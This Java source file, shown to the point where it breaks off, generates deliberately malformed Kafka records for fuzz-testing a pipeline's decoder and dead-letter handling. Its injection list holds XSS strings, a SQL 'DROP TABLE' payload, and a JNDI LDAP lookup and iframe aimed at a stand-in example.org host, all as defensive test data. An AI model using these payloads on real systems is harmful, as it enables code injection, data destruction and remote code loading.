package nl.lvds.pipeline.generate;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import nl.lvds.models.codec.DecodeError.Reason;
import nl.lvds.models.codec.LvdsJson;
import nl.lvds.models.event.Signal;

/**
 * Deterministic generator of bad input for the three input topics (signals, incidents, raw P2000
 * lines), for the fuzz test and the bad-input benchmark: every record has exactly one defect, and
 * carries the dead-letter reason the job must give it.
 *
 * <p>The kinds: truncated and malformed JSON (also trailing content and non-objects), wrong types,
 * empty and huge text, oversized records, invalid UTF-8 and control characters, timestamps far in
 * the past and future, unknown contract versions, script and HTML injection, extremely long tokens,
 * and bad records carrying every identity field. Free text in them is made of {@link #CANARIES}:
 * none of those may ever appear in a dead letter or an output.
 *
 * <p>Two kinds are valid to the decoder and are caught later, by design:
 *
 * <ul>
 *   <li>{@link Kind#TIMESTAMP_AHEAD_OF_RECORD_TIME}: an event time inside the contract's range
 *       (2000-2100) but decades after the Kafka record time; the Kafka deserializers dead-letter it
 *       as {@code timestamp_out_of_range} (else it would move the watermark to 2090);
 *   <li>{@link Kind#LATE_EVENT}: a valid signal dated 2000-2020, far behind the watermark; the
 *       bucket stage sends it to the late side output, dead-lettered as {@value
 *       #LATE_EVENT_REASON}. It is only late once the data has moved the watermark, so a mixer must
 *       place it after the valid stream has started ({@link Bad#afterValidData()}).
 * </ul>
 *
 * Identity fields on an otherwise valid record are not a dead letter: the decoder drops and counts
 * them, and the record counts as usual. {@link #withIdentityFields} makes such records from valid
 * signals; the output must not change.
 */
public final class BadRecords {

    /**
     * The dead-letter reason the job gives a signal behind the watermark (the job's {@code
     * LateSignals.REASON}; a test in the job module holds the two equal).
     */
    public static final String LATE_EVENT_REASON = "late_event";

    /** The topic a bad record is meant for. */
    public enum Target {
        SIGNALS,
        INCIDENTS,
        P2000
    }

    /** The kinds of bad record. */
    public enum Kind {
        TRUNCATED_JSON,
        MALFORMED_JSON,
        TRAILING_CONTENT,
        NOT_AN_OBJECT,
        WRONG_TYPE,
        EMPTY_RECORD,
        EMPTY_TEXT,
        HUGE_TEXT,
        OVERSIZED_RECORD,
        INVALID_UTF8,
        CONTROL_CHARACTERS,
        TIMESTAMP_FAR_PAST,
        TIMESTAMP_FAR_FUTURE,
        TIMESTAMP_AHEAD_OF_RECORD_TIME,
        BAD_TIMESTAMP,
        LATE_EVENT,
        UNKNOWN_VERSION,
        MISSING_FIELD,
        BAD_VALUE,
        SCRIPT_INJECTION,
        LONG_TOKEN,
        IDENTITY_FIELDS,
        UNPARSEABLE_LINE
    }

    /**
     * One bad record.
     *
     * @param target the topic it goes to
     * @param kind its defect
     * @param value the raw record value (null for a Kafka tombstone)
     * @param reason the dead-letter reason the job must give it
     */
    public record Bad(Target target, Kind kind, byte[] value, String reason) {

        /** Whether it must follow valid data on the stream (it is only late after some). */
        public boolean afterValidData() {
            return kind == Kind.LATE_EVENT;
        }

        /** The size of the value in bytes (0 for a tombstone). */
        public int size() {
            return value == null ? 0 : value.length;
        }
    }

    /**
     * A valid signal re-encoded with identity fields added.
     *
     * @param value the record value
     * @param identityFields how many identity fields it carries
     */
    public record Decorated(byte[] value, int identityFields) {}

    /** Free text planted in bad records; must never appear in any dead letter or output. */
    public static final List<String> CANARIES =
            List.of(
                    "Pimpelmees Zwaluwstaart",
                    "pimpelmees.zwaluw@example.org",
                    "06-48151623",
                    "@pimpelmees_rdam",
                    "<script>alert('pimpelmees')</script>");

    /**
     * Case-insensitive fragments of the canaries and injections to look for in outputs (shorter
     * than the canaries, so that a partly echoed canary is caught too).
     */
    public static final List<String> CANARY_MARKERS =
            List.of("pimpelmees", "zwaluw", "48151623", "<script", "onerror", "javascript:");

    private static final List<String> INJECTIONS =
            List.of(
                    "<script>alert('pimpelmees')</script>",
                    "<img src=x onerror=alert('pimpelmees')>",
                    "\"><svg onload=alert(1)>pimpelmees",
                    "<a href=\"javascript:alert('pimpelmees')\">klik</a>",
                    "'; DROP TABLE signals; -- pimpelmees",
                    "{{7*7}} ${jndi:ldap://pimpelmees.example.org/a}",
                    "<iframe src=//pimpelmees.example.org></iframe>");

    private static final List<String> AREAS =
            List.of("Tarwewijk", "Charlois", "Delfshaven", "Feijenoord", "Kralingen-Crooswijk");

    private static final List<byte[]> INVALID_SEQUENCES =
            List.of(
                    new byte[] {(byte) 0xFF},
                    new byte[] {(byte) 0xC3, 0x28},
                    new byte[] {(byte) 0x80},
                    new byte[] {(byte) 0xC0, (byte) 0xAF},
                    new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                    new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                    new byte[] {(byte) 0xE9, 0x20});

    private static final Kind[] SIGNAL_KINDS = {
        Kind.TRUNCATED_JSON,
        Kind.MALFORMED_JSON,
        Kind.TRAILING_CONTENT,
        Kind.NOT_AN_OBJECT,
        Kind.WRONG_TYPE,
        Kind.EMPTY_RECORD,
        Kind.EMPTY_TEXT,
        Kind.HUGE_TEXT,
        Kind.OVERSIZED_RECORD,
        Kind.INVALID_UTF8,
        Kind.CONTROL_CHARACTERS,
        Kind.TIMESTAMP_FAR_PAST,
        Kind.TIMESTAMP_FAR_FUTURE,
        Kind.TIMESTAMP_AHEAD_OF_RECORD_TIME,
        Kind.BAD_TIMESTAMP,
        Kind.LATE_EVENT,
        Kind.UNKNOWN_VERSION,
        Kind.MISSING_FIELD,
        Kind.BAD_VALUE,
        Kind.SCRIPT_INJECTION,
        Kind.LONG_TOKEN,
        Kind.IDENTITY_FIELDS
    };

    private static final Kind[] INCIDENT_KINDS = {
        Kind.TRUNCATED_JSON,
        Kind.MALFORMED_JSON,
        Kind.TRAILING_CONTENT,
        Kind.NOT_AN_OBJECT,
        Kind.WRONG_TYPE,
        Kind.EMPTY_RECORD,
        Kind.HUGE_TEXT,
        Kind.OVERSIZED_RECORD,
        Kind.INVALID_UTF8,
        Kind.CONTROL_CHARACTERS,
        Kind.TIMESTAMP_FAR_PAST,
        Kind.TIMESTAMP_FAR_FUTURE,
        Kind.TIMESTAMP_AHEAD_OF_RECORD_TIME,
        Kind.BAD_TIMESTAMP,
        Kind.UNKNOWN_VERSION,
        Kind.MISSING_FIELD,
        Kind.BAD_VALUE,
        Kind.SCRIPT_INJECTION,
        Kind.LONG_TOKEN,
        Kind.IDENTITY_FIELDS
    };

    private static final Kind[] P2000_KINDS = {
        Kind.EMPTY_RECORD,
        Kind.OVERSIZED_RECORD,
        Kind.INVALID_UTF8,
        Kind.CONTROL_CHARACTERS,
        Kind.BAD_TIMESTAMP,
        Kind.TIMESTAMP_FAR_PAST,
        Kind.TIMESTAMP_FAR_FUTURE,
        Kind.TIMESTAMP_AHEAD_OF_RECORD_TIME,
        Kind.SCRIPT_INJECTION,
        Kind.LONG_TOKEN,
        Kind.UNPARSEABLE_LINE
    };

    private static final ObjectMapper JSON = new ObjectMapper();

    private final SplittableRandom rnd;
    private final long from;
    private final long to;
    private long seq;
    private int identityCursor;

    /**
     * A generator of bad records whose in-range timestamps fall in {@code [from, to)}.
     *
     * @param seed the seed: the same seed gives the same records
     * @param from start of the valid stream (epoch ms)
     * @param to end of the valid stream (epoch ms)
     */
    public BadRecords(long seed, long from, long to) {
        if (to <= from) {
            throw new IllegalArgumentException("empty time range");
        }
        this.rnd = new SplittableRandom(seed);
        this.from = from;
        this.to = to;
    }

    /** The next bad record: 70 % signals, 20 % incidents, 10 % P2000 lines. */
    public Bad next() {
        seq++;
        double t = rnd.nextDouble();
        if (t < 0.7) {
            return signal(pick(SIGNAL_KINDS));
        }
        if (t < 0.9) {
            return incident(pick(INCIDENT_KINDS));
        }
        return p2000(pick(P2000_KINDS));
    }

    /** A bad record of one kind for one target (for tests; not every pair exists). */
    public Bad next(Target target, Kind kind) {
        seq++;
        return switch (target) {
            case SIGNALS -> signal(kind);
            case INCIDENTS -> incident(kind);
            case P2000 -> p2000(kind);
        };
    }

    /** The kinds generated for a target. */
    public static List<Kind> kinds(Target target) {
        return List.of(
                switch (target) {
                    case SIGNALS -> SIGNAL_KINDS;
                    case INCIDENTS -> INCIDENT_KINDS;
                    case P2000 -> P2000_KINDS;
                });
    }

    /** Big records are rarer, to keep the volume of a run moderate. */
    private Kind pick(Kind[] kinds) {
        while (true) {
            Kind k = kinds[rnd.nextInt(kinds.length)];
            double keep =
                    switch (k) {
                        case OVERSIZED_RECORD -> 0.05;
                        case HUGE_TEXT -> 0.2;
                        default -> 1.0;
                    };
            if (keep >= 1.0 || rnd.nextDouble() < keep) {
                return k;
            }
        }
    }

    /**
     * A valid signal re-encoded with three to six identity fields (with canary values) at the top
     * level, in varied letter case; successive calls cycle through every field of {@link
     * LvdsJson#IDENTITY_FIELDS}. The decoder drops them and the signal counts as before.
     */
    public Decorated withIdentityFields(Signal s) {
        Map<String, Object> m = new LinkedHashMap<>();
        @SuppressWarnings("unchecked")
        Map<String, Object> base = readMap(LvdsJson.encodeSignal(s));
        List<String> names = identityFieldNames();
        int n = 3 + rnd.nextInt(4);
        List<String> chosen = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
            chosen.add(names.get(identityCursor++ % names.size()));
        }
        // some before, some after the contract fields
        int before = rnd.nextInt(n + 1);
        for (int i = 0; i < before; i++) {
            m.put(caseVariant(chosen.get(i)), identityValue(chosen.get(i)));
        }
        m.putAll(base);
        for (int i = before; i < n; i++) {
            m.put(caseVariant(chosen.get(i)), identityValue(chosen.get(i)));
        }
        return new Decorated(bytes(m), n);
    }

    // ------------------------------------------------------------------ signals

    private Map<String, Object> baseSignal() {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("v", 1);
        m.put("id", "bad-s-" + seq);
        m.put("source", "social");
        m.put("ts", iso(inRange()));
        m.put("lang", "nl");
        m.put("text", canaryText());
        m.put("area", AREAS.get(rnd.nextInt(AREAS.size())));
        m.put("authorKey", "ak-bad-" + seq);
        return m;
    }

    private Bad signal(Kind kind) {
        Map<String, Object> m = baseSignal();
        return switch (kind) {
            case TRUNCATED_JSON -> truncated(Target.SIGNALS, m);
            case MALFORMED_JSON -> malformed(Target.SIGNALS, m);
            case TRAILING_CONTENT -> trailing(Target.SIGNALS, m);
            case NOT_AN_OBJECT -> notAnObject(Target.SIGNALS, m);
            case WRONG_TYPE -> {
                switch (rnd.nextInt(10)) {
                    case 0 -> m.put("v", "1");
                    case 1 -> m.put("v", 1.5);
                    case 2 -> m.put("text", 42);
                    case 3 -> m.put("text", List.of(canaryText()));
                    case 4 -> m.put("text", Map.of("inner", canaryText()));
                    case 5 -> m.put("id", 12345);
                    case 6 -> m.put("source", true);
                    case 7 -> m.put("ts", inRange());
                    case 8 -> m.put("lang", 7);
                    default -> m.put("area", List.of("Tarwewijk"));
                }
                yield bad(Target.SIGNALS, kind, bytes(m), Reason.WRONG_TYPE);
            }
            case EMPTY_RECORD -> emptyRecord(Target.SIGNALS);
            case EMPTY_TEXT -> {
                m.put(
                        "text",
                        List.of("", " ", "   ", "\n\t\r ", "\u2003\u3000 ").get(rnd.nextInt(5)));
                yield bad(Target.SIGNALS, kind, bytes(m), Reason.EMPTY_TEXT);
            }
            case HUGE_TEXT -> {
                m.put("text", longText(Signal.MAX_TEXT_CHARS + 1 + rnd.nextInt(12_000)));
                yield bad(Target.SIGNALS, kind, bytes(m), Reason.OVERSIZED_TEXT);
            }
            case OVERSIZED_RECORD -> {
                m.put("text", longText(LvdsJson.MAX_RECORD_BYTES + 1 + rnd.nextInt(16_000)));
                yield bad(Target.SIGNALS, kind, bytes(m), Reason.OVERSIZED_RECORD);
            }
            case INVALID_UTF8 -> invalidUtf8(Target.SIGNALS, m, "text");
            case CONTROL_CHARACTERS -> control(Target.SIGNALS, m, "text", "source");
            case TIMESTAMP_FAR_PAST -> {
                m.put("ts", farPast());
                yield bad(Target.SIGNALS, kind, bytes(m), Reason.TIMESTAMP_OUT_OF_RANGE);
            }
            case TIMESTAMP_FAR_FUTURE -> {
                m.put("ts", farFuture());
                yield bad(Target.SIGNALS, kind, bytes(m), Reason.TIMESTAMP_OUT_OF_RANGE);
            }
            case TIMESTAMP_AHEAD_OF_RECORD_TIME -> {
                m.put("ts", aheadOfRecordTime());
                yield bad(Target.SIGNALS, kind, bytes(m), Reason.TIMESTAMP_OUT_OF_RANGE);
            }
            case BAD_TIMESTAMP -> {
                m.put("ts", badTimestamp());
                yield bad(Target.SIGNALS, kind, bytes(m), Reason.BAD_TIMESTAMP);
            }
            case LATE_EVENT -> {
                // valid, dated 2000-2020: late once the stream's watermark is in its own time
                long start = Instant.parse("2000-01-01T00:00:00Z").toEpochMilli();
                long end = Instant.parse("2020-01-01T00:00:00Z").toEpochMilli();
                m.put("ts", iso(start + (long) (rnd.nextDouble() * (end - start))));
                yield new Bad(Target.SIGNALS, kind, bytes(m), LATE_EVENT_REASON);
            }
            case UNKNOWN_VERSION -> unknownVersion(Target.SIGNALS, m);
            case MISSING_FIELD -> missing(Target.SIGNALS, m, "v", "id", "source", "ts", "text");
            case BAD_VALUE -> {
                switch (rnd.nextInt(7)) {
                    case 0 -> m.put("source", "closed-group");
                    case 1 -> m.put("source", "SOCIAL");
                    case 2 -> m.put("source", "");
                    case 3 -> m.put("id", "");
                    case 4 -> m.put("platform", token(65 + rnd.nextInt(100)));
                    case 5 -> m.put("area", token(129 + rnd.nextInt(300)));
                    default -> m.put("authorKey", token(257 + rnd.nextInt(300)));
                }
                yield bad(Target.SIGNALS, kind, bytes(m), Reason.BAD_VALUE);
            }
            case SCRIPT_INJECTION -> {
                String payload = INJECTIONS.get(rnd.nextInt(INJECTIONS.size()));
                m.put("text", payload + " " + canaryText());
                yield switch (rnd.nextInt(6)) {
                    case 0 -> {
                        m.put("source", payload);
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.BAD_VALUE);
                    }
                    case 1 -> {
                        m.put("ts", payload);
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.BAD_TIMESTAMP);
                    }
                    case 2 -> {
                        m.put("v", 2);
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.UNKNOWN_VERSION);
                    }
                    case 3 -> {
                        m.remove("text");
                        m.put(payload, canaryText());
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.MISSING_FIELD);
                    }
                    case 4 -> {
                        m.put("lang", payload);
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.BAD_VALUE);
                    }
                    default -> {
                        m.put("id", (payload + " ").repeat(30));
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.BAD_VALUE);
                    }
                };
            }
            case LONG_TOKEN -> {
                yield switch (rnd.nextInt(6)) {
                    case 0 -> {
                        m.put("id", token(129 + rnd.nextInt(4_000)));
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.BAD_VALUE);
                    }
                    case 1 -> {
                        m.put("text", token(Signal.MAX_TEXT_CHARS + 1 + rnd.nextInt(10_000)));
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.OVERSIZED_TEXT);
                    }
                    case 2 -> {
                        m.put("ts", token(40 + rnd.nextInt(4_000)));
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.BAD_TIMESTAMP);
                    }
                    case 3 -> {
                        m.remove("text");
                        m.put(token(33 + rnd.nextInt(4_000)), canaryText());
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.MISSING_FIELD);
                    }
                    case 4 -> {
                        m.put("source", token(40 + rnd.nextInt(4_000)));
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.BAD_VALUE);
                    }
                    default -> {
                        // half of them short enough to pass for an enum-like value
                        int n = rnd.nextBoolean() ? 17 + rnd.nextInt(16) : 33 + rnd.nextInt(4_000);
                        m.put("lang", token(n));
                        yield bad(Target.SIGNALS, kind, bytes(m), Reason.BAD_VALUE);
                    }
                };
            }
            case IDENTITY_FIELDS -> identityAndDefect(Target.SIGNALS, m, "text");
            default -> throw new IllegalArgumentException("no " + kind + " for signals");
        };
    }

    // ------------------------------------------------------------------ incidents

    private Map<String, Object> baseIncident() {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("v", 1);
        m.put("id", "bad-i-" + seq);
        m.put("feed", "police");
        m.put("ts", iso(inRange()));
        m.put("type", "riot");
        m.put("severity", 1 + rnd.nextInt(3));
        m.put("area", AREAS.get(rnd.nextInt(AREAS.size())));
        m.put("location", "Schammenkamp");
        m.put("summary", canaryText());
        return m;
    }

    private Bad incident(Kind kind) {
        Map<String, Object> m = baseIncident();
        return switch (kind) {
            case TRUNCATED_JSON -> truncated(Target.INCIDENTS, m);
            case MALFORMED_JSON -> malformed(Target.INCIDENTS, m);
            case TRAILING_CONTENT -> trailing(Target.INCIDENTS, m);
            case NOT_AN_OBJECT -> notAnObject(Target.INCIDENTS, m);
            case WRONG_TYPE -> {
                switch (rnd.nextInt(7)) {
                    case 0 -> m.put("severity", "3");
                    case 1 -> m.put("severity", 2.5);
                    case 2 -> m.put("severity", 99_999_999_999L);
                    case 3 -> m.put("feed", 5);
                    case 4 -> m.put("summary", List.of(canaryText()));
                    case 5 -> m.put("location", Map.of("street", canaryText()));
                    default -> m.put("v", "1");
                }
                yield bad(Target.INCIDENTS, kind, bytes(m), Reason.WRONG_TYPE);
            }
            case EMPTY_RECORD -> emptyRecord(Target.INCIDENTS);
            case HUGE_TEXT -> {
                if (rnd.nextBoolean()) {
                    m.put("summary", longText(2_001 + rnd.nextInt(8_000)));
                    yield bad(Target.INCIDENTS, kind, bytes(m), Reason.OVERSIZED_TEXT);
                }
                m.put("summary", longText(Signal.MAX_TEXT_CHARS + 2 + rnd.nextInt(10_000)));
                yield bad(Target.INCIDENTS, kind, bytes(m), Reason.BAD_VALUE);
            }
            case OVERSIZED_RECORD -> {
                m.put("summary", longText(LvdsJson.MAX_RECORD_BYTES + 1 + rnd.nextInt(16_000)));
                yield bad(Target.INCIDENTS, kind, bytes(m), Reason.OVERSIZED_RECORD);
            }
            case INVALID_UTF8 -> invalidUtf8(Target.INCIDENTS, m, "summary");
            case CONTROL_CHARACTERS -> control(Target.INCIDENTS, m, "summary", "feed");
            case TIMESTAMP_FAR_PAST -> {
                m.put("ts", farPast());
                yield bad(Target.INCIDENTS, kind, bytes(m), Reason.TIMESTAMP_OUT_OF_RANGE);
            }
            case TIMESTAMP_FAR_FUTURE -> {
                m.put("ts", farFuture());
                yield bad(Target.INCIDENTS, kind, bytes(m), Reason.TIMESTAMP_OUT_OF_RANGE);
            }
            case TIMESTAMP_AHEAD_OF_RECORD_TIME -> {
                m.put("ts", aheadOfRecordTime());
                yield bad(Target.INCIDENTS, kind, bytes(m), Reason.TIMESTAMP_OUT_OF_RANGE);
            }
            case BAD_TIMESTAMP -> {
                m.put("ts", badTimestamp());
                yield bad(Target.INCIDENTS, kind, bytes(m), Reason.BAD_TIMESTAMP);
            }
            case UNKNOWN_VERSION -> unknownVersion(Target.INCIDENTS, m);
            case MISSING_FIELD ->
                    missing(Target.INCIDENTS, m, "v", "id", "feed", "ts", "type", "severity");
            case BAD_VALUE -> {
                switch (rnd.nextInt(6)) {
                    case 0 -> m.put("severity", 0);
                    case 1 -> m.put("severity", 4);
                    case 2 -> m.put("severity", -1);
                    case 3 -> m.put("feed", "twitter");
                    case 4 -> m.put("type", "alien-invasion");
                    default -> m.put("id", "");
                }
                yield bad(Target.INCIDENTS, kind, bytes(m), Reason.BAD_VALUE);
            }
            case SCRIPT_INJECTION -> {
                String payload = INJECTIONS.get(rnd.nextInt(INJECTIONS.size()));
                m.put("summary", payload);
                switch (rnd.nextInt(3)) {
                    case 0 -> m.put("type", payload);
                    case 1 -> m.put("feed", payload);
                    default -> m.put("location", (payload + " ").repeat(10));
                }
                yield bad(Target.INCIDENTS, kind, bytes(m), Reason.BAD_VALUE);
            }
            case LONG_TOKEN -> {
                switch (rnd.nextInt(3)) {
                    case 0 -> m.put("id", token(129 + rnd.nextInt(4_000)));
                    case 1 -> m.put("location", token(257 + rnd.nextInt(4_000)));
                    default -> m.put("area", token(129 + rnd.nextInt(4_000)));
                }
                yield bad(Target.INCIDENTS, kind, bytes(m), Reason.BAD_VALUE);
            }
            case IDENTITY_FIELDS -> identityAndDefect(Target.INCIDENTS, m, "type");
            default -> throw new IllegalArgumentException("no " + kind + " for incidents");
        };
    }

    // ------------------------------------------------------------------ P2000 lines

    private String p2000Body() {
        return List.of(
                        "A1 BDH-01 Explosie Schammenkamp Rotterdam 173131",
                        "P 1 Brandweer Middelbrand (Gebouw) Kleiweg Rotterdam 1700131",
                        "A2 Ambulance Mijnsherenlaan Rotterdam 17132",
                        "P 2 Politie Steekpartij Beijerlandselaan Rotterdam")
                .get(rnd.nextInt(4));
    }

    private Bad p2000(Kind kind) {
        return switch (kind) {
            case EMPTY_RECORD -> {
                if (rnd.nextBoolean()) {
                    yield line(kind, new byte[0], Reason.EMPTY_RECORD);
                }
                yield line(
                        kind,
                        utf8(List.of(" ", "   ", "\t \t").get(rnd.nextInt(3))),
                        Reason.EMPTY_RECORD);
            }
            case OVERSIZED_RECORD -> {
                // over the parser's line limit, or over four times it (rejected before decoding)
                int chars =
                        rnd.nextBoolean()
                                ? 1_025 + rnd.nextInt(3_000)
                                : 4_097 + rnd.nextInt(20_000);
                yield line(
                        kind, utf8(p2000Body() + " " + longText(chars)), Reason.OVERSIZED_RECORD);
            }
            case INVALID_UTF8 -> {
                byte[] body = utf8(p2000Body() + " " + canaryText());
                byte[] seqBytes = INVALID_SEQUENCES.get(rnd.nextInt(INVALID_SEQUENCES.size()));
                int at = rnd.nextInt(body.length + 1);
                yield line(kind, splice(body, at, seqBytes), Reason.INVALID_UTF8);
            }
            case CONTROL_CHARACTERS -> {
                // a line of control characters only: no priority, discipline or keyword
                StringBuilder sb = new StringBuilder();
                int n = 1 + rnd.nextInt(20);
                for (int i = 0; i < n; i++) {
                    sb.append((char) (rnd.nextBoolean() ? rnd.nextInt(9) : 14 + rnd.nextInt(14)));
                }
                yield line(kind, utf8(sb.toString()), Reason.UNPARSEABLE_FEED_LINE);
            }
            case BAD_TIMESTAMP -> {
                String ts =
                        List.of(
                                        "2024-03-07",
                                        "2024-13-45 25:61",
                                        "2024-03-07T25:61:00Z",
                                        "2024-02-30 10:00")
                                .get(rnd.nextInt(4));
                yield line(kind, utf8(ts + " " + p2000Body()), Reason.BAD_TIMESTAMP);
            }
            case TIMESTAMP_FAR_PAST ->
                    line(kind, utf8(farPast() + " " + p2000Body()), Reason.TIMESTAMP_OUT_OF_RANGE);
            case TIMESTAMP_FAR_FUTURE -> {
                String ts =
                        iso(
                                Instant.parse("2100-01-01T00:00:00Z").toEpochMilli()
                                        + (long) (rnd.nextDouble() * 3e12));
                yield line(kind, utf8(ts + " " + p2000Body()), Reason.TIMESTAMP_OUT_OF_RANGE);
            }
            case TIMESTAMP_AHEAD_OF_RECORD_TIME ->
                    line(
                            kind,
                            utf8(aheadOfRecordTime() + " " + p2000Body()),
                            Reason.TIMESTAMP_OUT_OF_RANGE);
            case SCRIPT_INJECTION -> {
                String payload = INJECTIONS.get(rnd.nextInt(INJECTIONS.size()));
                yield line(kind, utf8(payload.replace(' ', '_')), Reason.UNPARSEABLE_FEED_LINE);
            }
            case LONG_TOKEN -> {
                if (rnd.nextBoolean()) {
                    yield line(
                            kind, utf8(token(1_025 + rnd.nextInt(8_000))), Reason.OVERSIZED_RECORD);
                }
                yield line(kind, utf8(token(200 + rnd.nextInt(800))), Reason.UNPARSEABLE_FEED_LINE);
            }
            case UNPARSEABLE_LINE -> {
                // free text without priority, discipline or incident word, or a test message
                String text =
                        switch (rnd.nextInt(3)) {
                            case 0 ->
                                    CANARIES.get(0)
                                            + " woont boven de bakker, bel "
                                            + CANARIES.get(2);
                            case 1 -> "Groeten van " + CANARIES.get(3) + " en " + CANARIES.get(1);
                            default -> "PROEFALARM " + p2000Body() + " " + CANARIES.get(0);
                        };
                yield line(kind, utf8(text), Reason.UNPARSEABLE_FEED_LINE);
            }
            default -> throw new IllegalArgumentException("no " + kind + " for P2000 lines");
        };
    }

    private static Bad line(Kind kind, byte[] value, Reason reason) {
        return new Bad(Target.P2000, kind, value, reason.code());
    }

    // ------------------------------------------------------------------ shared defects

    private static Bad bad(Target target, Kind kind, byte[] value, Reason reason) {
        return new Bad(target, kind, value, reason.code());
    }

    private Bad truncated(Target target, Map<String, Object> m) {
        String json = new String(bytes(m), StandardCharsets.UTF_8);
        int cut = 1 + rnd.nextInt(json.length() - 1);
        return bad(
                target, Kind.TRUNCATED_JSON, utf8(json.substring(0, cut)), Reason.MALFORMED_JSON);
    }

    private Bad malformed(Target target, Map<String, Object> m) {
        String json = new String(bytes(m), StandardCharsets.UTF_8);
        String s =
                switch (rnd.nextInt(8)) {
                    case 0 -> json.replace('"', '\'');
                    case 1 -> json.substring(0, json.length() - 1) + ",}";
                    case 2 -> json.replaceAll("\"([A-Za-z]+)\":", "$1:");
                    case 3 -> canaryText();
                    case 4 -> "<signal><text>" + canaryText() + "</text></signal>";
                    case 5 -> json.replaceFirst(",", " ");
                    case 6 -> json.replaceFirst("\"v\":1", "\"v\":NaN");
                    default -> json.replaceFirst(",", " /* " + CANARIES.get(1) + " */ ,");
                };
        return bad(target, Kind.MALFORMED_JSON, utf8(s), Reason.MALFORMED_JSON);
    }

    private Bad trailing(Target target, Map<String, Object> m) {
        String json = new String(bytes(m), StandardCharsets.UTF_8);
        String s =
                switch (rnd.nextInt(3)) {
                    case 0 -> json + json;
                    case 1 -> json + " " + canaryText();
                    default -> json + "\n" + json;
                };
        return bad(target, Kind.TRAILING_CONTENT, utf8(s), Reason.MALFORMED_JSON);
    }

    private Bad notAnObject(Target target, Map<String, Object> m) {
        String json = new String(bytes(m), StandardCharsets.UTF_8);
        String s =
                switch (rnd.nextInt(6)) {
                    case 0 -> "[" + json + "]";
                    case 1 -> quoted(canaryText());
                    case 2 -> Integer.toString(rnd.nextInt());
                    case 3 -> "null";
                    case 4 -> "true";
                    default -> "-1.5e3";
                };
        return bad(target, Kind.NOT_AN_OBJECT, utf8(s), Reason.NOT_AN_OBJECT);
    }

    private Bad emptyRecord(Target target) {
        byte[] value =
                switch (rnd.nextInt(4)) {
                    case 0 -> null; // a Kafka tombstone
                    case 1 -> new byte[0];
                    case 2 -> utf8(" ");
                    default -> utf8("\n\t  \r\n");
                };
        return bad(target, Kind.EMPTY_RECORD, value, Reason.EMPTY_RECORD);
    }

    private Bad invalidUtf8(Target target, Map<String, Object> m, String textField) {
        if (rnd.nextInt(4) == 0) {
            // the whole record in Latin-1, with a non-ASCII character in its text
            m.put(textField, "Café De Ster, één drankje " + canaryText());
            byte[] latin1 =
                    new String(bytes(m), StandardCharsets.UTF_8)
                            .getBytes(StandardCharsets.ISO_8859_1);
            return bad(target, Kind.INVALID_UTF8, latin1, Reason.INVALID_UTF8);
        }
        String marker = "\u0001MARK\u0001";
        m.put(textField, canaryText() + marker + canaryText());
        byte[] json = bytes(m);
        byte[] mark = utf8("\\u0001MARK\\u0001");
        int at = indexOf(json, mark);
        byte[] seqBytes = INVALID_SEQUENCES.get(rnd.nextInt(INVALID_SEQUENCES.size()));
        ByteArrayOutputStream out = new ByteArrayOutputStream(json.length + 8);
        out.write(json, 0, at);
        out.writeBytes(seqBytes);
        out.write(json, at + mark.length, json.length - at - mark.length);
        return bad(target, Kind.INVALID_UTF8, out.toByteArray(), Reason.INVALID_UTF8);
    }

    private Bad control(Target target, Map<String, Object> m, String textField, String enumField) {
        char c = (char) rnd.nextInt(32);
        switch (rnd.nextInt(4)) {
            case 0 -> {
                // an unescaped control character inside a string: not JSON
                String marker = "QQCTRLQQ";
                m.put(textField, canaryText() + marker);
                String json = new String(bytes(m), StandardCharsets.UTF_8);
                return bad(
                        target,
                        Kind.CONTROL_CHARACTERS,
                        utf8(json.replace(marker, String.valueOf(c))),
                        Reason.MALFORMED_JSON);
            }
            case 1 -> {
                String json = new String(bytes(m), StandardCharsets.UTF_8);
                return bad(
                        target,
                        Kind.CONTROL_CHARACTERS,
                        utf8("{\u0000" + json.substring(1)),
                        Reason.MALFORMED_JSON);
            }
            case 2 -> {
                String ts = (String) m.get("ts");
                m.put("ts", ts.substring(0, 10) + c + ts.substring(10));
                return bad(target, Kind.CONTROL_CHARACTERS, bytes(m), Reason.BAD_TIMESTAMP);
            }
            default -> {
                m.put(enumField, m.get(enumField) + String.valueOf(c));
                return bad(target, Kind.CONTROL_CHARACTERS, bytes(m), Reason.BAD_VALUE);
            }
        }
    }

    private Bad unknownVersion(Target target, Map<String, Object> m) {
        long[] versions = {0, 2, 3, 99, -1, 1_000_000_000_000L};
        m.put("v", versions[rnd.nextInt(versions.length)]);
        return bad(target, Kind.UNKNOWN_VERSION, bytes(m), Reason.UNKNOWN_VERSION);
    }

    private Bad missing(Target target, Map<String, Object> m, String... required) {
        String field = required[rnd.nextInt(required.length)];
        if (rnd.nextBoolean()) {
            m.remove(field);
        } else {
            m.put(field, null);
        }
        return bad(target, Kind.MISSING_FIELD, bytes(m), Reason.MISSING_FIELD);
    }

    /** A record with identity fields (canary values) and one more defect, so it is dead. */
    private Bad identityAndDefect(Target target, Map<String, Object> m, String requiredField) {
        List<String> names = identityFieldNames();
        int n = 2 + rnd.nextInt(6);
        for (int i = 0; i < n; i++) {
            String name = names.get(identityCursor++ % names.size());
            m.put(caseVariant(name), identityValue(name));
        }
        Reason reason;
        switch (rnd.nextInt(3)) {
            case 0 -> {
                m.remove(requiredField);
                reason = Reason.MISSING_FIELD;
